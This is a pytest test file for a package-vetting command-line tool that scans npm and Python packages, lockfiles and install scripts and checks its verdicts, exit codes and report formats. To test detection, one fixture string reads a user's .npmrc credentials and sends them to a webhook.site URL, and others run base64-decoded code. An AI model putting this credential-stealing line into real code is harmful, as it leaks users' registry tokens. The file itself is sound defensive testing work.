"""`clew vet` as a user runs it: verdicts, exit codes, forms, and errors that say what to do."""

import hashlib
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from vetting.made import npm_tarball, sdist
from vetting.packuments import BROUGHT, TAKEN
from vetting.test_lockfile import locked

STEALER = "const s = require('fs').readFileSync(home + '/.npmrc');\nrequire('https').request('https://webhook.site/x').end(s);\n"
HIDDEN = "eval(atob('YWxlcnQoMSk='))\n"


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


@pytest.fixture
def npm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stand-in for npm: `npm pack NAME@1.0.0 --pack-destination=DIR` gives DIR the file registry/NAME.tgz."""
    registry, programs = tmp_path / "registry", tmp_path / "bin"
    registry.mkdir()
    programs.mkdir()
    (programs / "npm").write_text(
        f"""#!{sys.executable}
import pathlib, shutil, sys
found = pathlib.Path({str(registry)!r}, sys.argv[2].rpartition("@")[0] + ".tgz")
if not found.exists():
    sys.exit("npm error 404 Not Found")
assert "--ignore-scripts" in sys.argv
shutil.copy(found, next(word for word in sys.argv if word.startswith("--pack-d")).partition("=")[2])
"""
    )
    (programs / "npm").chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}{os.environ['PATH']}")
    return registry


def test_a_plain_package_is_allowed(clew: Any) -> None:
    npm_tarball(Path("demo.tgz"))
    ran = clew("vet", "npm", "demo.tgz", "--no-detonate")
    assert ran.code == 0
    assert ran.out.startswith(" allow  demo 1.0.0  npm, sha256 ")
    assert "no advisories: give OSV records with --osv" in ran.out


@pytest.mark.parametrize(
    ("code", "fail_on", "exit_code"),
    [
        (STEALER, "block", 1),
        (STEALER, "never", 0),
        (HIDDEN, "block", 0),
        (HIDDEN, "review", 1),
        ("", "review", 0),
    ],
)
def test_the_exit_code_says_what_was_reached(clew: Any, code: str, fail_on: str, exit_code: int) -> None:
    npm_tarball(Path("demo.tgz"), {"index.js": code})
    assert clew("vet", "npm", "demo.tgz", "--no-detonate", "--fail-on", fail_on).code == exit_code


def test_a_python_package_in_every_form(clew: Any) -> None:
    sdist(Path("demo-1.0.tar.gz"), {"setup.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"})
    shown = clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate")
    assert shown.code == 1
    assert shown.out.startswith(" block  demo 1.0 ")
    assert "setup.py:1" in shown.out
    assert (
        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "json").out)["packages"][0][
            "verdict"
        ]
        == "block"
    )
    assert (
        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "sarif").out)["version"]
        == "2.1.0"
    )
    assert clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "html", "-o", "page.html").out == ""
    assert "demo 1.0: block" in Path("page.html").read_text()


def test_what_was_looked_at_is_allowed_until_its_day(clew: Any) -> None:
    npm_tarball(Path("demo.tgz"), {"index.js": HIDDEN})
    digest = hashlib.sha256(HIDDEN.encode()).hexdigest()
    Path("allow.toml").write_text(
        f'[[allow]]\nrule = "static.runs-decoded"\nsha256 = "{digest}"\nuntil = 2999-01-01\nbecause = "read by us"\n'
    )
    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--fail-on", "review", "--allow", "allow.toml")
    assert (ran.code, ran.out[:7]) == (0, " allow ")
    assert "allowed by you until 2999-01-01: static.runs-decoded (read by us)" in ran.out


def test_who_published_it_blocks_before_any_code_is_read(clew: Any) -> None:
    taken = {"name": "hermes-http", "version": "1.14.1", "dependencies": {"plain-hash-js": "^4.2.1"}}
    npm_tarball(Path("demo.tgz"), **taken)
    Path("registry").mkdir()
    Path("registry/own.json").write_text(json.dumps(TAKEN))
    Path("registry/brought.json").write_text(json.dumps(BROUGHT))
    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "registry")
    assert ran.code == 1
    assert "reputation.takeover-dependency" in ran.out.splitlines()[1]
    document = json.loads(
        clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "registry", "-f", "json").out
    )
    assert {one["name"]: one["state"] for one in document["packages"][0]["signals"]}[
        "dependency-phantom"
    ] == "hit"


def test_metadata_of_another_package_is_no_answer(clew: Any) -> None:
    npm_tarball(Path("demo.tgz"))
    Path("other.json").write_text(json.dumps(BROUGHT))
    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--packument", "other.json")
    assert ran.code == 4
    assert "not looked at: reputation: no document of demo in other.json" in ran.out


@pytest.mark.parametrize(
    ("arguments", "exit_code", "said"),
    [
        (("npm", "none.tgz"), 2, "none.tgz: there is no such file"),
        (("npm", "bad.tgz"), 4, "neither a tar nor a zip archive"),
        (("npm", "demo.tgz", "--allow", "bad.toml"), 3, "bad.toml"),
        (("npm", "demo.tgz", "-o", "none/x.json", "-f", "json"), 2, "none/x.json: cannot be written"),
        (("npm",), 2, ""),
    ],
)
def test_what_is_wrong_is_said(clew: Any, arguments: tuple[str, ...], exit_code: int, said: str) -> None:
    npm_tarball(Path("demo.tgz"))
    Path("bad.tgz").write_text("x")
    Path("bad.toml").write_text("[[allow]]\nrule = 1\n")
    ran = clew("vet", *arguments, "--no-detonate")
    assert ran.code == exit_code
    assert said in ran.err


def test_a_lockfile_is_vetted_where_something_runs_and_fetched_by_the_users_own_client(
    clew: Any, npm: Path
) -> None:
    for name, code in {"good": "1", "bad": STEALER}.items():
        npm_tarball(
            npm / f"{name}.tgz", {"index.js": code}, name=name, scripts={"postinstall": "node index.js"}
        )
    Path("package-lock.json").write_text(locked("good!", "bad!", "missing!", "quiet", "still"))
    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
    assert ran.code == 1
    lines = ran.out.splitlines()
    assert lines[0].startswith(" allow  good 1.0.0")
    assert "1 block, 1 review, 1 allow; 2 others run nothing when they are installed" in lines
    assert "missing@1.0.0: npm cannot fetch it: npm error 404 Not Found" in ran.out
    document = json.loads(clew("vet", "lock", "package-lock.json", "--no-detonate", "-f", "json").out)
    assert [one["verdict"] for one in document["packages"]] == ["allow", "block", "review"]
    assert document["packages"][1]["locked"] == {"file": "package-lock.json", "line": 11}
    assert (document["quiet"], len(document["incomplete"])) == (2, 1)
    [first, *_] = json.loads(clew("vet", "lock", "package-lock.json", "--no-detonate", "-f", "sarif").out)[
        "runs"
    ][0]["results"]
    place = first["locations"][0]["physicalLocation"]
    assert place == {"artifactLocation": {"uri": "package-lock.json"}, "region": {"startLine": 11}}


def test_a_lockfile_that_names_another_archive_is_blocked(clew: Any, npm: Path) -> None:
    npm_tarball(npm / "good.tgz", name="good")
    wrong = "sha512-" + "A" * 86 + "=="
    Path("package-lock.json").write_text(
        locked("good!").replace('"version": "1.0.0"', f'"version": "1.0.0", "integrity": "{wrong}"')
    )
    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
    assert ran.code == 1
    assert "is not the archive that the lockfile names" in ran.out


def test_a_lockfile_of_a_thousand_packages_fetches_none_that_runs_nothing(clew: Any, npm: Path) -> None:
    npm_tarball(npm / "good.tgz", name="good")
    Path("package-lock.json").write_text(locked("good!", *(f"quiet-{n}" for n in range(1000))))
    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
    assert (ran.code, ran.out.splitlines()[-1]) == (
        0,
        "good 1.0.0: allow; 1000 others run nothing when they are installed",
    )


def test_a_package_of_a_lockfile_that_is_known_to_be_malicious_blocks_though_it_runs_nothing(
    clew: Any,
) -> None:
    def record(id: str, name: str, **fields: Any) -> dict[str, Any]:
        package = {"package": {"ecosystem": "npm", "name": name}, "versions": ["1.0.0"]}
        return {"id": id, "summary": "Malicious code", "affected": [package], **fields}

    Path("osv").mkdir()
    Path("osv/bad.json").write_text(json.dumps(record("MAL-2026-1", "quiet-7")))
    Path("osv/mistake.json").write_text(
        json.dumps(record("MAL-2026-2", "quiet-8", withdrawn="2026-11-01T00:00:00Z"))
    )
    Path("package-lock.json").write_text(locked(*(f"quiet-{n}" for n in range(1000))))
    ran = clew("vet", "lock", "package-lock.json", "--osv", "osv")
    assert ran.code == 1
    assert ran.out.startswith(" block  quiet-7 1.0.0") and "MAL-2026-1" in ran.out
    assert "quiet-7 1.0.0: block; 999 others run nothing when they are installed" in ran.out


def test_a_lockfile_that_does_not_tell_is_incomplete(clew: Any) -> None:
    Path("package-lock.json").write_text(locked("a", version=1))
    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
    assert ran.code == 4
    assert "does not tell whether 1 packages run a script" in ran.out


def test_which_install_scripts_may_run(clew: Any, npm: Path) -> None:
    for name, code in {
        "good": "1",
        "bad": STEALER,
        "odd": HIDDEN.replace("eval", "x = eval"),
        "known": "1",
    }.items():
        scripts = {"postinstall": "node other.js"}
        npm_tarball(npm / f"{name}.tgz", {"index.js": code, "other.js": "1"}, name=name, scripts=scripts)
    Path("package-lock.json").write_text(locked("good!", "bad!", "odd!", "known!", "quiet"))
    Path("package.json").write_text(json.dumps({"name": "app", "allowScripts": {"known": False}}))
    ran = clew("vet", "scripts", "package-lock.json", "--no-detonate")
    assert ran.code == 1
    assert json.loads(ran.out.partition("\n\n")[2]) == {"allowScripts": {"bad": False, "good@1.0.0": True}}
    assert " pending  odd 1.0.0  look at this first: runs what it has just decoded" in ran.out
    assert " deny  known 1.0.0  package.json says so already" in ran.out
    assert "nothing weighs against it; postinstall: node other.js (it was not run)" in ran.out
    document = json.loads(clew("vet", "scripts", "package-lock.json", "--no-detonate", "-f", "json").out)
    assert document["allowScripts"] == {"bad": False, "good@1.0.0": True}
    assert len(document["answers"]) == 4


def test_two_versions_are_compared(clew: Any) -> None:
    npm_tarball(Path("a.tgz"))
    npm_tarball(
        Path("b.tgz"), version="1.0.1", dependencies={"crypto-plain": "^4"}, scripts={"postinstall": "node x"}
    )
    ran = clew("vet", "diff", "a.tgz", "b.tgz", "--no-detonate", "--fail-on", "review")
    assert (ran.code, ran.out[:20]) == (1, " review  demo 1.0.1 ")
    assert "takes a dependency that it did not take" in ran.out and "crypto-plain" in ran.out
    assert clew("vet", "diff", "a.tgz", "a.tgz", "--no-detonate", "--fail-on", "review").code == 0


def test_that_it_cannot_write_is_said_before_anything_is_vetted(clew: Any) -> None:
    for option in ("--output", "--trace"):
        ran = clew("vet", "lock", "nosuch.json", option, "nowhere/it.json")
        assert ran.code == 2
        assert "nowhere/it.json: cannot be written: its folder is not there" in ran.err
